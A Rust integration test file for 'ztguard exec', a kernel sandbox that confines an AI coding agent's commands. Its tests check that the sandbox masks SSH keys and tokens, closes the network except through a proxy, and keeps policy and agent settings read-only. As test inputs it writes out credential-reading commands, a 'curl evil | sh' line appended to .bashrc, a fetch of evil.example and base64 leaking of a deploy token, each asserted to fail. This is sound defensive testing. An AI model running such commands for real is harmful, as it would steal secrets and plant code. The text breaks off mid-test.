//! `ztguard exec` against the real kernel (Landlock, user, mount and
//! network namespaces): what a confined command can and cannot reach.
//! The machines this project runs on have all of it; the test says so
//! plainly where one does not, and fails under CI.

#![allow(clippy::expect_used, clippy::unwrap_used)] // a failed setup step should stop the test loudly

mod common;

use std::net::TcpListener;

use common::{Env, stderr, stdout};
use serde_json::Value;

fn sandboxed() -> Option<Env> {
    Env::sandboxed()
}

/// `ztguard init` without the hook: a policy file to bind read-only.
fn init(e: &Env) {
    let out = e.run(&["init", "--no-hook"], "");
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
}

/// Run `script` with sh inside `ztguard exec` (extra args before `--`).
fn exec(e: &Env, extra: &[&str], script: &str) -> std::process::Output {
    let mut args = vec!["exec"];
    args.extend_from_slice(extra);
    args.extend_from_slice(&["--", "sh", "-c", script]);
    let mut c = e.cmd(&args);
    c.env("AWS_SECRET_ACCESS_KEY", "FAKE-aws-secret-in-parent")
        .env("GITHUB_TOKEN", "FAKE-token-in-parent")
        .env("AI_ACCESSIBLE_DB_NAME", "orders");
    c.output().expect("run ztguard exec")
}

#[test]
fn the_kernel_keeps_credentials_and_the_outside_out() {
    let Some(e) = sandboxed() else {
        return;
    };
    // Without any mask, Landlock alone keeps the home's keys out.
    let out = exec(&e, &[], "cat ~/.ssh/id_rsa; echo \"ssh=$?\"");
    assert!(stdout(&out).contains("ssh=1"), "{}", stdout(&out));
    // A symlink inside the project to the home's keys.
    std::os::unix::fs::symlink(e.home.join(".ssh"), e.project.join("keys")).unwrap();
    let out = exec(
        &e,
        &[],
        "cat ~/.ssh/id_rsa; echo \"ssh=$?\"; cat keys/id_rsa; echo \"link=$?\"; \
         cat .env; echo \"env-file=$?\"; \
         sh -c 'sh -c \"cat ~/.ssh/id_rsa\"'; echo \"grandchild=$?\"; \
         echo hi > inside.txt; echo \"inside=$?\"; \
         echo x > ~/outside.txt; echo \"outside=$?\"; \
         echo x > /etc/ztguard-test; echo \"etc=$?\"",
    );
    let text = stdout(&out);
    assert_eq!(out.status.code(), Some(0), "{text}\n{}", stderr(&out));
    for (what, code) in [
        ("ssh", "1"),
        ("link", "1"),
        ("grandchild", "1"),
        ("env-file", "1"),
        ("inside", "0"),
    ] {
        assert!(text.contains(&format!("{what}={code}")), "{what}: {text}");
    }
    assert!(
        !text.contains("outside=0") && !text.contains("etc=0"),
        "{text}"
    );
    assert!(!text.contains("FAKE"), "no credential was read: {text}");
    assert_eq!(
        std::fs::read_to_string(e.project.join("inside.txt")).unwrap(),
        "hi\n"
    );
    assert!(!e.home.join("outside.txt").exists());
    // The files themselves are untouched outside.
    assert!(
        std::fs::read_to_string(e.project.join(".env"))
            .unwrap()
            .contains("FAKE-integration")
    );
}

#[test]
fn the_environment_holds_no_secrets() {
    let Some(e) = sandboxed() else {
        return;
    };
    // Nor can it read them from a process outside the sandbox (Landlock's ptrace scoping).
    let out = exec(&e, &[], "cat /proc/$PPID/environ; echo \"rc=$?\"");
    assert!(
        !stdout(&out).contains("FAKE-aws-secret-in-parent"),
        "{}",
        stdout(&out)
    );
    assert!(stdout(&out).contains("rc=1"), "{}", stdout(&out));
    let out = exec(&e, &[], "env | cut -d= -f1 | sort");
    let names = stdout(&out);
    assert!(
        names.lines().any(|l| l == "PATH") && names.lines().any(|l| l == "HOME"),
        "{names}"
    );
    assert!(
        names.lines().any(|l| l == "AI_ACCESSIBLE_DB_NAME"),
        "{names}"
    );
    for secret in ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"] {
        assert!(
            !names.lines().any(|l| l == secret),
            "{secret} leaked: {names}"
        );
    }
    let out = e
        .cmd(&["env", "--json"])
        .env("AWS_SECRET_ACCESS_KEY", "FAKE-aws-secret-in-parent")
        .env("GITHUB_TOKEN", "FAKE-token-in-parent")
        .env("AI_ACCESSIBLE_DB_NAME", "orders")
        .output()
        .unwrap();
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["prefix"], "AI_ACCESSIBLE_");
    // `ztguard env` tells the truth: every name inside is one it lists
    // (or one the shell sets itself).
    let listed: Vec<String> = ["visible", "added"]
        .iter()
        .flat_map(|k| v[k].as_array().unwrap().iter())
        .map(|n| n.as_str().unwrap().to_string())
        .collect();
    for name in names.lines() {
        assert!(
            listed.iter().any(|l| l == name) || ["PWD", "SHLVL", "_", "OLDPWD"].contains(&name),
            "{name} is inside but `ztguard env` does not list it: {v}"
        );
    }
    assert!(listed.iter().any(|n| n == "ZTGUARD_BROKER"), "{v}");
}

#[test]
fn no_network_unless_asked_for() {
    let Some(e) = sandboxed() else {
        return;
    };
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let probe = format!(
        "python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=3); print('connected')\""
    );
    let out = exec(&e, &[], &probe);
    assert!(!stdout(&out).contains("connected"), "{}", stdout(&out));
    assert_ne!(out.status.code(), Some(0));
    let out = exec(&e, &["--network", "host"], &probe);
    assert!(
        stdout(&out).contains("connected"),
        "{} {}",
        stdout(&out),
        stderr(&out)
    );
}

#[test]
fn the_guards_files_stay_read_only_and_exit_codes_pass_through() {
    let Some(e) = sandboxed() else {
        return;
    };
    init(&e);
    let before = std::fs::read_to_string(e.project.join(".ztguard.toml")).unwrap();
    let out = exec(
        &e,
        &[],
        "echo 'default = \"allow\"' >> .ztguard.toml; echo \"policy=$?\"; exit 7",
    );
    assert_eq!(out.status.code(), Some(7));
    assert!(!stdout(&out).contains("policy=0"), "{}", stdout(&out));
    assert_eq!(
        std::fs::read_to_string(e.project.join(".ztguard.toml")).unwrap(),
        before
    );
    // The project's agent and git configuration: not even a new file there.
    std::fs::create_dir_all(e.project.join(".claude")).unwrap();
    std::fs::create_dir_all(e.project.join(".git/hooks")).unwrap();
    let out = exec(
        &e,
        &[],
        "echo '{}' > .claude/settings.local.json; echo \"local=$?\"; \
         echo 'exit 0' > .git/hooks/pre-commit; echo \"githook=$?\"; echo ok > src/new.rs; echo \"src=$?\"",
    );
    let text = stdout(&out);
    assert!(
        !text.contains("local=0") && !text.contains("githook=0") && text.contains("src=0"),
        "{text}"
    );
    assert!(!e.project.join(".claude/settings.local.json").exists());
    assert!(!e.project.join(".git/hooks/pre-commit").exists());
    // The agent's own settings inside ~/.claude stay read-only while the rest of it is writable.
    std::fs::create_dir_all(e.home.join(".claude")).unwrap();
    std::fs::write(e.home.join(".claude/settings.json"), "{}").unwrap();
    let out = exec(
        &e,
        &[],
        "echo x > ~/.claude/settings.json; echo \"settings=$?\"; echo x > ~/.claude/state.json; echo \"state=$?\"",
    );
    let text = stdout(&out);
    assert!(
        text.contains("state=0") && !text.contains("settings=0"),
        "{text}"
    );
    // The agent cannot start the sandbox itself with other options.
    let (d, _) = e.pre(
        "Bash",
        serde_json::json!({"command": "ztguard exec --network host -- curl x"}),
    );
    assert_eq!(d, "deny");
}

#[test]
fn the_proxy_reaches_allowed_hosts_only() {
    let Some(e) = sandboxed() else {
        return;
    };
    // Loopback asks in the default policy; this user allows `localhost`.
    e.user_policy_with(&[
        ("ask = [\"localhost\", ", "ask = ["),
        (
            "allow = [\n  \"docs.rs\"",
            "allow = [\n  \"localhost\", \"docs.rs\"",
        ),
    ]);
    let server = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = server.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for mut c in server.incoming().flatten() {
            use std::io::{Read, Write};
            // Read the whole request head before answering: closing with
            // unread data would reset the connection under the answer.
            let mut head = Vec::new();
            let mut buf = [0u8; 1024];
            while !head.windows(4).any(|w| w == b"\r\n\r\n") {
                match c.read(&mut buf) {
                    Ok(0) | Err(_) => break,
                    Ok(n) => head.extend_from_slice(&buf[..n]),
                }
            }
            let _ =
                c.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 19\r\n\r\nhello-through-proxy");
        }
    });
    let fetch = |url: &str| {
        format!(
            // Loopback is the sandbox's own, so NO_PROXY keeps it off the
            // proxy; this test sends it there to reach the host's.
            "NO_PROXY= no_proxy= python3 -c \"import urllib.request as u\ntry:\n print(u.urlopen('{url}', timeout=5).read().decode())\nexcept Exception as e:\n print('refused', e)\""
        )
    };
    // A name allowed by name that resolves to loopback is refused: the
    // address itself is not allowed (DNS rebinding onto the host's services).
    let out = exec(&e, &["-v"], &fetch(&format!("http://localhost:{port}/")));
    assert!(
        stdout(&out).contains("refused") && stdout(&out).contains("403"),
        "{} {}",
        stdout(&out),
        stderr(&out)
    );
    assert!(
        stderr(&out).contains("only ztguard's proxy"),
        "{}",
        stderr(&out)
    );
    // 127.0.0.1 still asks in this policy: the proxy refuses what is not allowed outright.
    let out = exec(&e, &[], &fetch(&format!("http://127.0.0.1:{port}/")));
    assert!(
        stdout(&out).contains("refused") && stdout(&out).contains("403"),
        "{}",
        stdout(&out)
    );
    // Allowed by address, it is reached, under its name too.
    e.user_policy_with(&[
        ("ask = [\"localhost\", \"127.0.0.1\", ", "ask = ["),
        (
            "allow = [\n  \"docs.rs\"",
            "allow = [\n  \"localhost\", \"127.0.0.1\", \"docs.rs\"",
        ),
    ]);
    for url in [
        format!("http://localhost:{port}/"),
        format!("http://127.0.0.1:{port}/"),
    ] {
        let out = exec(&e, &[], &fetch(&url));
        assert!(
            stdout(&out).contains("hello-through-proxy"),
            "{url}: {} {}",
            stdout(&out),
            stderr(&out)
        );
    }
    let out = exec(&e, &[], &fetch("http://evil.example/"));
    assert!(stdout(&out).contains("403"), "{}", stdout(&out));
    // Around the proxy there is no way out: a direct connection fails.
    let out = exec(
        &e,
        &[],
        &format!(
            "python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=3)\" 2>&1; echo rc=$?"
        ),
    );
    assert!(!stdout(&out).contains("rc=0"), "{}", stdout(&out));
    // --network none sets no proxy at all.
    let out = exec(&e, &["--network", "none"], "env | grep -ci proxy; true");
    assert_eq!(stdout(&out).trim(), "0", "{}", stdout(&out));
}

/// `ztguard exec` with `ztguard` itself on the sandbox's PATH.
fn exec_with_ztguard(e: &Env, extra: &[&str], script: &str) -> std::process::Output {
    let bin = std::path::Path::new(env!("CARGO_BIN_EXE_ztguard"))
        .parent()
        .unwrap()
        .to_path_buf();
    let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
    let mut args = vec!["exec"];
    args.extend_from_slice(extra);
    args.extend_from_slice(&["--", "sh", "-c", script]);
    e.cmd(&args)
        .env("PATH", path)
        .output()
        .expect("run ztguard exec")
}

#[test]
fn an_injected_secret_reaches_only_the_approved_operation() {
    let Some(e) = sandboxed() else {
        return;
    };
    common::with_deploy_secret(&e);
    let token = common::fake_token();
    let out = exec_with_ztguard(
        &e,
        &[],
        "cat ~/.config/deploy/token; echo \"source=$?\"; \
         env | grep -c DEPLOY_TOKEN; \
         ztguard run deploy -- ./scripts/deploy.sh --prod; echo \"op=$?\"; \
         ztguard run deploy -- sh -c 'echo $DEPLOY_TOKEN'; echo \"other=$?\"",
    );
    let (text, err) = (stdout(&out), stderr(&out));
    assert_eq!(out.status.code(), Some(0), "{text}\n{err}");
    assert!(
        text.contains("source=1"),
        "the source is out of reach: {text}"
    );
    assert!(
        text.contains("\n0\n"),
        "no DEPLOY_TOKEN in the environment: {text}"
    );
    assert!(
        text.contains(&common::token_sha256()) && text.contains("op=3"),
        "the approved operation received the value: {text}\n{err}"
    );
    assert!(
        err.contains("the token itself: [REDACTED:deploy]"),
        "its output is redacted: {err}"
    );
    assert!(
        text.contains("other=2") && err.contains("may go to"),
        "{text}\n{err}"
    );
    assert!(!text.contains(&token) && !err.contains(&token));

    // The operation runs in a sandbox of its own: confined like the agent,
    // and the agent cannot read its environment.
    std::fs::write(
        e.project.join("scripts/deploy.sh"),
        "#!/bin/sh\ncat ~/.ssh/id_rsa; echo \"op-ssh=$?\"\necho \"op-proxy=${HTTPS_PROXY:-none} broker=${ZTGUARD_BROKER:-none}\"\necho $$ > op.pid\nsleep 3\n",
    )
    .unwrap();
    // (It runs in a PID namespace of its own: no process the agent can
    // see holds the secret, and its own pid is not one the agent has.)
    let out = exec_with_ztguard(
        &e,
        &[],
        "ztguard run deploy -- ./scripts/deploy.sh & \
         while [ ! -s op.pid ]; do sleep 0.1; done; \
         echo \"seen=$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c DEPLOY_TOKEN)\"; \
         echo \"processes=$(ls -d /proc/[0-9]* | wc -l)\"; wait",
    );
    let text = stdout(&out);
    assert!(!text.contains(&token), "{text}");
    assert!(text.contains("seen=0"), "{text}\n{}", stderr(&out));
    assert!(
        text.contains("op-ssh=1") && !text.contains("FAKE KEY"),
        "{text}"
    );
    // It reaches the network the way the agent does, and not the broker.
    assert!(
        text.contains("op-proxy=http://127.0.0.1:3128 broker=none"),
        "{text}"
    );

    // A script changed inside the sandbox gets no secret until a human approves it.
    let out = exec_with_ztguard(
        &e,
        &[],
        "echo 'echo $DEPLOY_TOKEN | base64' >> scripts/deploy.sh; \
         ztguard run deploy -- ./scripts/deploy.sh; echo \"changed=$?\"",
    );
    let (text, err) = (stdout(&out), stderr(&out));
    assert!(
        text.contains("changed=2") && err.contains("changed after `ztguard exec` started"),
        "{text}\n{err}"
    );
    // Nor does a symlink put in its place (to a shell that would print the value).
    std::fs::write(
        e.project.join("scripts/deploy.sh"),
        "#!/bin/sh\necho deploying\n",
    )
    .unwrap();
    let out = exec_with_ztguard(
        &e,
        &[],
        "rm scripts/deploy.sh && ln -s /bin/sh scripts/deploy.sh && \
         ztguard run deploy -- ./scripts/deploy.sh -c 'echo $DEPLOY_TOKEN | base64'; echo \"symlink=$?\"",
    );
    let (text, err) = (stdout(&out), stderr(&out));
    assert!(
        text.contains("symlink=2") && err.contains("changed after `ztguard exec` started"),
        "{text}\n{err}"
    );
    let uses: Vec<_> = e
        .audit()
        .into_iter()
        .filter(|r| r["event"] == "SecretUse" && r["via"] == "broker")
        .collect();
    assert_eq!(uses.len(), 5, "{uses:?}");
}

#[test]
fn the_model_api_key_stays_outside_the_sandbox() {
    let Some(e) = sandboxed() else {
        return;
    };
    let upstream = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = upstream.local_addr().unwrap().port();
    let (tx, rx) = std::sync::mpsc::channel::<String>();
    std::thread::spawn(move || {
        for mut c in upstream.incoming().flatten() {
            use std::io::{Read, Write};
            let mut head = Vec::new();
            let mut buf = [0u8; 1024];
            while !head.windows(4).any(|w| w == b"\r\n\r\n") {
                match c.read(&mut buf) {
                    Ok(0) | Err(_) => break,
                    Ok(n) => head.extend_from_slice(&buf[..n]),
                }
            }
            let _ = tx.send(String::from_utf8_lossy(&head).into_owned());
            let _ = c.write_all(
                b"HTTP/1.1 200 OK\r\nContent-Length: 13\r\nConnection: close\r\n\r\nfrom-upstream",
            );
        }
    });
    let real = "sk-ant-api03-FAKE-real-key-outside";
    let call = "python3 -c \"import os, urllib.request as u\n\
r = u.Request(os.environ['ANTHROPIC_BASE_URL'] + '/v1/messages', data=b'{}', headers={'x-api-key': os.environ['ANTHROPIC_API_KEY']})\n\
print(u.urlopen(r, timeout=10).read().decode())\"";
    let out = e
        .cmd(&[
            "exec",
            "--",
            "sh",
            "-c",
            &format!("env | grep ANTHROPIC_; {call}"),
        ])
        .env("ANTHROPIC_API_KEY", real)
        .env("ANTHROPIC_BASE_URL", format!("http://127.0.0.1:{port}"))
        .output()
        .unwrap();
    let (text, err) = (stdout(&out), stderr(&out));
    assert_eq!(out.status.code(), Some(0), "{text}\n{err}");
    assert!(text.contains("from-upstream"), "{text}\n{err}");
    assert!(!text.contains(real), "the sandbox saw the real key: {text}");
    assert!(
        text.contains("ANTHROPIC_API_KEY=ztguard-placeholder-")
            && text.contains("ANTHROPIC_BASE_URL=http://127.0.0.1:"),
        "{text}"
    );
    let seen = rx.recv().unwrap();
    assert!(seen.contains(&format!("x-api-key: {real}")), "{seen}");
    assert!(!seen.contains("placeholder"), "{seen}");
    // The API's host is reachable through the proxy for the client's own
    // checks, without the key (the default policy would deny the host).
    let out = e
        .cmd(&[
            "exec",
            "--",
            "sh",
            "-c",
            &format!(
                "NO_PROXY= no_proxy= python3 -c \"import urllib.request as u; print(u.urlopen('http://127.0.0.1:{port}/ping', timeout=10).read().decode())\""
            ),
        ])
        .env("ANTHROPIC_API_KEY", real)
        .env("ANTHROPIC_BASE_URL", format!("http://127.0.0.1:{port}"))
        .output()
        .unwrap();
    assert!(stdout(&out).contains("from-upstream"), "{}", stderr(&out));
    let seen = rx.recv().unwrap();
    assert!(
        seen.starts_with("GET http://127.0.0.1") || seen.starts_with("GET /ping"),
        "{seen}"
    );
    assert!(!seen.contains(real), "{seen}");
    // A request without the placeholder is refused before it leaves.
    let out = e
        .cmd(&[
            "exec",
            "--",
            "sh",
            "-c",
            &call.replace("os.environ['ANTHROPIC_API_KEY']", "'sk-ant-guessed'"),
        ])
        .env("ANTHROPIC_API_KEY", real)
        .env("ANTHROPIC_BASE_URL", format!("http://127.0.0.1:{port}"))
        .output()
        .unwrap();
    assert!(stderr(&out).contains("403"), "{}", stderr(&out));
    assert!(rx.try_recv().is_err(), "the upstream got a refused request");

    // Logged in with Claude Code instead: the login file is masked inside,
    // and the gateway sends its token in place of a placeholder OAuth token.
    let login = "sk-ant-oat01-FAKE-login-token";
    std::fs::create_dir_all(e.home.join(".claude")).unwrap();
    std::fs::write(
        e.home.join(".claude/.credentials.json"),
        serde_json::json!({"claudeAiOauth": {"accessToken": login, "refreshToken": "FAKE-refresh"}})
            .to_string(),
    )
    .unwrap();
    let bearer_call = "python3 -c \"import os, urllib.request as u\n\
r = u.Request(os.environ['ANTHROPIC_BASE_URL'] + '/v1/messages', data=b'{}', headers={'Authorization': 'Bearer ' + os.environ['CLAUDE_CODE_OAUTH_TOKEN']})\n\
print(u.urlopen(r, timeout=10).read().decode())\"";
    let out = e
        .cmd(&[
            "exec",
            "--",
            "sh",
            "-c",
            &format!(
                "cat ~/.claude/.credentials.json; echo \"login=$?\"; env | grep -E 'ANTHROPIC|OAUTH'; {bearer_call}"
            ),
        ])
        .env("ANTHROPIC_BASE_URL", format!("http://127.0.0.1:{port}"))
        .output()
        .unwrap();
    let (text, err) = (stdout(&out), stderr(&out));
    assert!(
        text.contains("login=1") && !text.contains("FAKE"),
        "{text}\n{err}"
    );
    assert!(
        text.contains("CLAUDE_CODE_OAUTH_TOKEN=ztguard-placeholder-")
            && text.contains("from-upstream"),
        "{text}\n{err}"
    );
    let seen = rx.recv().unwrap();
    assert!(
        seen.contains(&format!("Authorization: Bearer {login}")),
        "{seen}"
    );
}

#[test]
fn hook_decisions_inside_the_sandbox_are_made_and_logged_outside() {
    let Some(e) = sandboxed() else {
        return;
    };
    init(&e);
    let event = e.event(
        "PreToolUse",
        "Bash",
        serde_json::json!({"command": "cat .env"}),
    );
    std::fs::write(e.project.join("event.json"), &event).unwrap();
    let forged = event.replace(
        &format!("\"cwd\":\"{}\"", e.project.display()),
        &format!("\"cwd\":\"{}\"", e.home.join(".ssh").display()),
    );
    assert_ne!(forged, event);
    std::fs::write(e.project.join("forged.json"), &forged).unwrap();
    let out = e.run(&["audit", "key", "--new"], "");
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let out = exec_with_ztguard(
        &e,
        &[],
        "ztguard hook < event.json; echo \"rc=$?\"; ztguard hook < forged.json; echo \"forged=$?\"; \
         ztguard policy show > /dev/null; echo \"show=$?\"; cat ~/.config/ztguard/audit.key; echo \"key=$?\"",
    );
    let (text, err) = (stdout(&out), stderr(&out));
    assert!(
        text.contains("\"permissionDecision\":\"deny\"") && text.contains("rc=0"),
        "{text}\n{err}"
    );
    assert!(
        text.contains("forged=2") && err.contains("run in the project"),
        "{err}"
    );
    // ztguard's own commands work inside; its signing key is out of reach.
    assert!(
        text.contains("show=0") && text.contains("key=1"),
        "{text}\n{err}"
    );
    // The record was written outside, where the sandbox cannot write.
    let records = e.audit();
    assert!(
        records
            .iter()
            .any(|r| r["event"] == "PreToolUse" && r["decision"] == "deny"),
        "{records:?}"
    );
    assert!(!e.home.join(".ssh/.ztguard").exists());
    let out = e.run(&["audit", "verify"], "");
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
}

/// What the client inside says of its session reaches the hook outside:
/// an unattended session's ask is denied there, and recorded so.
#[test]
fn an_unattended_session_inside_the_sandbox_has_its_asks_denied_outside() {
    let Some(e) = sandboxed() else {
        return;
    };
    init(&e);
    std::fs::write(e.project.join("notes.txt"), "notes\n").unwrap();
    let event = e.event(
        "PreToolUse",
        "Bash",
        serde_json::json!({"command": "rm notes.txt"}),
    );
    std::fs::write(e.project.join("event.json"), &event).unwrap();
    let out = exec_with_ztguard(
        &e,
        &[],
        "ztguard hook < event.json; echo; CLAUDE_CODE_SESSION_ATTENDED=0 ztguard hook < event.json",
    );
    let text = stdout(&out);
    let answers: Vec<Value> = text
        .lines()
        .filter(|l| !l.is_empty())
        .map(|l| serde_json::from_str(l).expect("a JSON answer"))
        .collect();
    assert_eq!(answers.len(), 2, "{text}\n{}", stderr(&out));
    let decision = |v: &Value| v["hookSpecificOutput"]["permissionDecision"].clone();
    assert_eq!(decision(&answers[0]), "ask", "{text}");
    assert_eq!(decision(&answers[1]), "deny", "{text}");
    let records = e.audit();
    let denied: Vec<&Value> = records
        .iter()
        .filter(|r| r["event"] == "PreToolUse" && r["decision"] == "deny")
        .collect();
    assert_eq!(denied.len(), 1, "{records:?}");
    assert_eq!(denied[0]["ask_denied"], "unattended", "{records:?}");
}

#[test]
fn a_kernel_without_landlock_or_user_namespaces_is_refused_unless_a_degraded_run_is_asked_for() {
    let Some(e) = sandboxed() else {
        return;
    };
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let script = format!(
        "cat ~/.ssh/id_rsa; echo \"ssh=$?\"; \
         python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=3)\" 2>/dev/null; echo \"net=$?\""
    );
    for (without, missing) in [
        ("landlock", "Landlock"),
        ("userns", "user namespaces"),
        ("seccomp", "seccomp"),
    ] {
        let run = |args: &[&str]| {
            e.cmd(args)
                .env("ZTGUARD_SANDBOX_WITHOUT", without)
                .output()
                .unwrap()
        };
        let out = run(&["sandbox", "status"]);
        assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
        assert!(stdout(&out).contains(missing), "{}", stdout(&out));
        let out = run(&["exec", "--", "sh", "-c", "echo ran"]);
        assert_eq!(out.status.code(), Some(2));
        assert!(!stdout(&out).contains("ran"));
        assert!(
            stderr(&out).contains("cannot enforce")
                && stderr(&out).contains(missing)
                && stderr(&out).contains("--allow-degraded"),
            "{}",
            stderr(&out)
        );
        let out = run(&["exec", "--allow-degraded", "--", "sh", "-c", &script]);
        let (text, err) = (stdout(&out), stderr(&out));
        assert!(
            err.contains("WARNING: running with a degraded sandbox") && err.contains(missing),
            "{err}"
        );
        // What is left still holds: the key is masked (no Landlock) or out
        // of Landlock's trees (no namespaces), and the network is closed
        // by whichever of the two remains.
        assert!(
            text.contains("ssh=1") && !text.contains("FAKE"),
            "{without}: {text}"
        );
        assert!(!text.contains("net=0"), "{without}: {text}");
    }
    // The probe itself, not the variable: inside the sandbox (whose seccomp
    // filter refuses new user namespaces) it finds none, and a nested
    // `exec` refuses to start.
    init(&e);
    let out = exec_with_ztguard(
        &e,
        &[],
        "ztguard sandbox status; echo \"status=$?\"; ztguard exec -- echo nested-ran; echo \"exec=$?\"",
    );
    let text = stdout(&out);
    assert!(
        text.contains("user namespaces: not available") && text.contains("status=1"),
        "{text}"
    );
    assert!(
        text.contains("exec=2") && !text.contains("nested-ran"),
        "{text}"
    );
}

#[test]
fn a_program_the_operation_finds_on_path_is_held_to_its_content_too() {
    let Some(e) = sandboxed() else {
        return;
    };
    common::with_deploy_secret(&e);
    std::fs::write(
        e.home.join(".config/ztguard/policy.toml"),
        "[secrets.deploy]\nfrom_file = \"~/.config/deploy/token\"\nenv = \"DEPLOY_TOKEN\"\ncommand = [\"deploy-tool\"]\n",
    )
    .unwrap();
    let tool = e.project.join("bin/deploy-tool");
    std::fs::create_dir_all(tool.parent().unwrap()).unwrap();
    std::fs::write(&tool, "#!/bin/sh\necho tool-ran\n").unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(0o755)).unwrap();
    // A PATH with a directory of the project in it (as some setups have).
    let bin = std::path::Path::new(env!("CARGO_BIN_EXE_ztguard"))
        .parent()
        .unwrap();
    let path = format!(
        "{}:{}:{}",
        e.project.join("bin").display(),
        bin.display(),
        std::env::var("PATH").unwrap()
    );
    let run = |script: &str| {
        e.cmd(&["exec", "--", "sh", "-c", script])
            .env("PATH", &path)
            .output()
            .unwrap()
    };
    // The configured command, started by name.
    let out = run("ztguard run deploy; echo \"rc=$?\"");
    assert!(
        stdout(&out).contains("tool-ran") && stdout(&out).contains("rc=0"),
        "{} {}",
        stdout(&out),
        stderr(&out)
    );
    let out = run(
        "printf '#!/bin/sh\\necho $DEPLOY_TOKEN | base64\\n' > bin/deploy-tool; \
         ztguard run deploy -- deploy-tool; echo \"rc=$?\"",
    );
    assert!(
        stdout(&out).contains("rc=2") && stderr(&out).contains("changed after"),
        "{} {}",
        stdout(&out),
        stderr(&out)
    );
}

#[test]
fn a_profile_narrows_the_sandbox_and_every_decision_inside_it() {
    let Some(e) = sandboxed() else {
        return;
    };
    init(&e);
    let policy = e.project.join(".ztguard.toml");
    let mut text = std::fs::read_to_string(&policy).unwrap();
    text.push_str(
        "\n[profiles.review]\ndefault = \"deny\"\ntools.allow = [\"Read\"]\nfiles.deny = [\"private/**\"]\n",
    );
    std::fs::write(&policy, text).unwrap();
    std::fs::create_dir_all(e.project.join("private")).unwrap();
    std::fs::write(e.project.join("private/plan.txt"), "the plan\n").unwrap();
    let event = e.event("PreToolUse", "Bash", serde_json::json!({"command": "ls"}));
    std::fs::write(e.project.join("event.json"), event).unwrap();
    let script = "cat private/plan.txt; echo \"plan=$?\"; ztguard hook < event.json";

    let out = exec_with_ztguard(&e, &[], script);
    let text = stdout(&out);
    assert!(
        text.contains("the plan") && text.contains("plan=0"),
        "{text}"
    );
    assert!(text.contains("\"permissionDecision\":\"allow\""), "{text}");

    let out = exec_with_ztguard(&e, &["--profile", "review"], script);
    let text = stdout(&out);
    assert!(
        text.contains("plan=1") && !text.contains("the plan"),
        "the profile's denied files are masked: {text}"
    );
    assert!(
        text.contains("\"permissionDecision\":\"deny\""),
        "the hook inside decides with the profile: {text}"
    );

    let out = exec_with_ztguard(&e, &["--profile", "nope"], "echo ran");
    assert_eq!(out.status.code(), Some(2));
    assert!(
        !stdout(&out).contains("ran") && stderr(&out).contains("nope"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn a_home_inside_a_writable_tree_keeps_its_keys_and_startup_files() {
    // Env::new puts the home under /tmp, which the sandbox lets commands write.
    let e = Env::new();
    if !e.kernel_ready() {
        return;
    }
    std::fs::write(e.home.join(".bashrc"), "# mine\n").unwrap();
    let out = exec(
        &e,
        &[],
        "cat ~/.ssh/id_rsa; echo \"ssh=$?\"; echo 'curl evil | sh' >> ~/.bashrc; echo \"bashrc=$?\"; \
         echo x > ~/scratch.txt; echo \"scratch=$?\"",
    );
    let text = stdout(&out);
    assert!(text.contains("ssh=1") && !text.contains("FAKE"), "{text}");
    assert_eq!(
        std::fs::read_to_string(e.home.join(".bashrc")).unwrap(),
        "# mine\n"
    );
    // /tmp inside is the sandbox's own: what it writes there, in the home
    // or anywhere else, never reaches the host's /tmp.
    assert!(text.contains("scratch=0"), "{text}");
    assert!(!e.home.join("scratch.txt").exists());
}

#[test]
fn an_interrupt_is_the_commands_and_the_sandbox_dies_with_ztguard() {
    let Some(e) = sandboxed() else {
        return;
    };
    let pid_of = |file: &str| -> i32 {
        let path = e.project.join(file);
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
        loop {
            if let Some(pid) = std::fs::read_to_string(&path)
                .ok()
                .and_then(|t| t.trim().parse().ok())
            {
                return pid;
            }
            assert!(
                std::time::Instant::now() < deadline,
                "{file} never appeared"
            );
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
    };
    let alive = |pid: i32| {
        // A zombie until reaped still shows in /proc: check its state.
        let state = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
        !state.is_empty() && !state.contains(") Z ")
    };
    // Host pids of `sleep ARG`.
    let running = |arg: &str| -> Vec<i32> {
        let want = format!("sleep\0{arg}\0");
        std::fs::read_dir("/proc")
            .unwrap()
            .flatten()
            .filter_map(|d| d.file_name().to_str()?.parse::<i32>().ok())
            .filter(|pid| {
                std::fs::read(format!("/proc/{pid}/cmdline")).is_ok_and(|c| c == want.as_bytes())
            })
            .collect()
    };
    let gone = |pids: &[i32]| {
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
        while pids.iter().any(|p| alive(*p)) && std::time::Instant::now() < deadline {
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
        assert!(
            pids.iter().all(|p| !alive(*p)),
            "the sandboxed command outlived ztguard exec: {pids:?}"
        );
    }; // SIGINT to ztguard exec alone: it waits on, the command finishes normally.
    let mut c = e
        .cmd(&[
            "exec",
            "--",
            "sh",
            "-c",
            "echo $$ > a.pid; sleep 1; echo finished",
        ])
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    pid_of("a.pid");
    let _ = std::process::Command::new("kill")
        .args(["-INT", &c.id().to_string()])
        .status();
    let out = {
        use std::io::Read;
        let mut s = String::new();
        c.stdout.take().unwrap().read_to_string(&mut s).unwrap();
        s
    };
    assert_eq!(c.wait().unwrap().code(), Some(0));
